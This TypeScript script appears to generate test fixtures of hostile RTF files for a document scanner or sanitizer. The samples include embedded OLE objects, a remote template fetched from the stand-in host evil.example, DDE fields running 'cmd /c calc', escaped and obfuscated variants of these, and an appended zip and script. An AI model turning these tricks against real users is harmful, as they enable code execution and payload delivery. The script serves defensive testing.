import { rtf, zip, write } from "./shared";

const rtfWith = (inside: string) => rtf.replace(/\}\s*$/, `${inside}}`);
write(
  "object.rtf",
  rtfWith("{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}"),
);
write(
  "object-broken-up.rtf",
  rtfWith("{\\object\\objemb{\\*\\obj\\'64ata 01}{\\*\\objdata{\\bin3 abc}01\r\n05}}"),
);
write("object-behind-bytes.rtf", rtfWith("{\\pict\\bin4 }}}}}{\\*\\objdata 0105}"));
write("object-update.rtf", rtfWith("{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}}"));
write("remote-template.rtf", rtfWith("{\\*\\template https://evil.example/t.dot}"));
write("remote-template-escaped.rtf", rtfWith("{\\*\\template \\'68ttp\\u58?//evil.example/t.dot}"));
write(
  "dde-field.rtf",
  rtfWith('{\\field{\\*\\fldinst {\\b D}DE{\\i AUTO} "cmd" "/c calc"}{\\fldrslt x}}'),
);
write("dde-field-escaped.rtf", rtfWith("{\\field{\\*\\fldinst \\u68?\\'44E cmd}{\\fldrslt x}}"));
write("truncated.rtf", rtf.slice(0, -200));
write("appended-zip.rtf", rtf, zip);
write("appended-text.rtf", rtf, "<script>alert(1)</script>");
write("deep-groups.rtf", rtfWith("{".repeat(2000) + "}".repeat(2000)));
